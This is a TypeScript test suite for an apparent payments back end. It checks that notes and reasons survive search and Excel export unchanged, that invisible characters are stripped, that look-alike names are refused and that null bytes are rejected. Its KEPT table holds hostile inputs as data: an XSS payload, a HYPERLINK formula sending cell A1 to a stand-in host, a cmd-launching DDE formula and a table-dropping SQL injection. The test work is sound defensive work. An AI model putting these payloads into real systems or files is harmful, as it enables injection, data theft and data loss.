import { exportedSheet } from '../support/read-xlsx.ts';
import { assert, dataOf, failureOf, receive, rejectionOf, sandboxWith, test } from '../support/suite.ts';

const { sandbox, admin, caja1: cashier } = await sandboxWith('admin', 'caja1');
const token = await sandbox.signIn('tiendaluna');

const KEPT: Record<string, string> = {
  markup: '<img src=x onerror=alert(1)><script>alert(1)</script>',
  entities: '&lt;b&gt; &amp; &#x202e;',
  'a formula': '=HYPERLINK("http://x.gt?"&A1,"Premio")',
  'a formula with a sign': '+cmd|" /C calc"!A0',
  emoji: '👩‍👩‍👧‍👦 🇬🇹 ❤️ ¡gracias! 🧾',
  'marks piled up': 'Z̷̡̢a̸͜l̵̨g̶o̷',
  SQL: `'); drop table transactions; --`,
  'a template': '{{7*7}} <%= 7*7 %> %s %n',
  backslashes: 'C:\\temp\\nota "x" \\u0000',
};

/** A request with this note, canceled for this reason. */
async function canceledRequest(text: string) {
  const sent = await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note: text });
  const { id: transactionId } = dataOf(sent).transaction;
  return dataOf(await cashier.transactions.cancelRequest({ transactionId, reason: text })).transaction;
}
const search = async (text: string) => {
  const pageProperties = { currentPage: 1, pageSize: 10 };
  return dataOf(await admin.transactions.history({ search: text, pageProperties })).data;
};

for (const [what, text] of Object.entries(KEPT))
  test(`${what} in a note or reason is returned unchanged by lists, history, search and Excel files`, async () => {
    const { id, note, statusReason, timeline } = await canceledRequest(text);
    assert.equal([note, statusReason, timeline?.at(-1)?.reason], [text, text, text]);
    const [one, ...others] = await search(text);
    assert.equal([one?.id, one?.note, others], [id, text, []]);
    const { rows } = await exportedSheet(await admin.transactions.exportHistory({ search: text }));
    const cellOf = (head: string) => rows[1]?.[rows[0]?.findIndex((cell) => cell?.value === head) ?? -1];
    assert.equal([cellOf('Nota'), cellOf('Motivo')], Array(2).fill({ kind: 'text', value: text }));
  });

test('invisible characters are removed from notes, reasons and searches', async () => {
  const note = 'pago \u202e05.521Q\u202c de\u200b María\ufeff';
  const seen = 'pago 05.521Q de María';
  const canceled = await canceledRequest(note);
  assert.equal([canceled.note, canceled.statusReason], [seen, seen]);
  const [one, ...others] = await search(`${seen}\u2060`);
  assert.equal([one?.id, others], [canceled.id, []]);
});

for (const text of [
  '\u200b',
  '\u2060',
  '\u2800',
  '\u3164',
  '\u00ad',
  '\u{e0061}',
  '\u202d\u202c',
  ' \u0085 ',
])
  test(`a name, an address or a reason of only ${JSON.stringify(text)} counts as empty`, async () => {
    const transactionId = await receive(sandbox.database, 'us_caja1', 1);
    const cashierData = {
      username: 'tiendaluna-centro-nadie',
      emailAddress: 'nadie@luna.gt',
      referenceId: 'C1',
    };
    const branch = { id: 'br_centro', regionId: 'gt-01-01-z10', referenceId: 'C1' };
    const responses = {
      name: [
        await admin.cashiers.create({ ...cashierData, name: text, businessBranchId: 'br_centro' }),
        await admin.cashiers.modify({ userId: 'us_luna', level: 'Business', name: text }),
        await admin.branches.update({ ...branch, name: text, address: 'Zona 1' }),
      ],
      address: [await admin.branches.update({ ...branch, name: 'Centro', address: text })],
      reason: [await admin.transactions.refund({ transactionId, reason: text })],
      countReason: [await cashier.closings.close({ countedAmount: 1, countReason: text })],
    };
    for (const [field, all] of Object.entries(responses))
      for (const response of all)
        assert.equal(failureOf(response).fields, [{ field, message: 'Este campo es requerido' }]);
  });

test('a name that looks like another one counts as taken, however it is written', async () => {
  const other = { emailAddress: 'caja@luna.gt', referenceId: 'C1', businessBranchId: 'br_centro' };
  const create = (name: string, username: string) =>
    admin.cashiers.create({ ...other, name, username: `tiendaluna-centro-${username}` });
  // Stored as by a version without this rule.
  await sandbox.database.query(`update users set name = E'Caja\\u00ad 1' where id = 'us_caja1'`);
  for (const name of [
    'Caja 1',
    'Caja 1\u200b',
    '\u202dCAJA 1',
    'Caja\u28001',
    'Ｃａｊａ １',
    'Caja 1\ufe0f',
    'Ca\u200dja ①',
  ])
    assert.is(rejectionOf(await create(name, 'otra')), '409 name', escape(name));
  assert.ok((await create('Сaja 1', 'cirilica')).ok, 'letters of another script are others');
});

test('U+0000, which the database cannot store, is rejected wherever a caller can put it', async () => {
  const headers = { Authorization: `Bearer ${token}` };
  for (const path of [
    'emails/stop/x%00',
    'pay/x%00',
    'media/avatars/av_x%00.webp',
    'sign-up/v2/check-username/x%00',
    'sign-up/v2/cities/x%00',
    'x%00',
    'healthz?x=%00',
  ])
    for (const method of ['GET', 'POST'])
      assert.is((await sandbox.call(path, { method, headers })).status, 404, `${method} ${path}`);
  const body = '{"requestContent":{"friUserId":"au_maria","amount":1,"note":"x\\u0000"}}';
  const sent = await sandbox.call('transactions/v3/requests/send', { method: 'POST', headers, body });
  assert.is(sent.status, 400);
});

test('a lone surrogate, which the database cannot store, is rejected instead of replaced', async () => {
  const headers = { Authorization: `Bearer ${token}` };
  const request = (note: string) => {
    const body = `{"requestContent":{"friUserId":"au_maria","amount":1,"note":"${note}"}}`;
    return sandbox.call('transactions/v3/requests/send', { method: 'POST', headers, body });
  };
  assert.is((await request('x\\ud83d')).status, 400);
  assert.is((await request('\\udc00x')).status, 400);
  const whole = await request('\\ud83d\\ude00');
  assert.is((await whole.json()).responseContent.transaction.note, '😀');
});
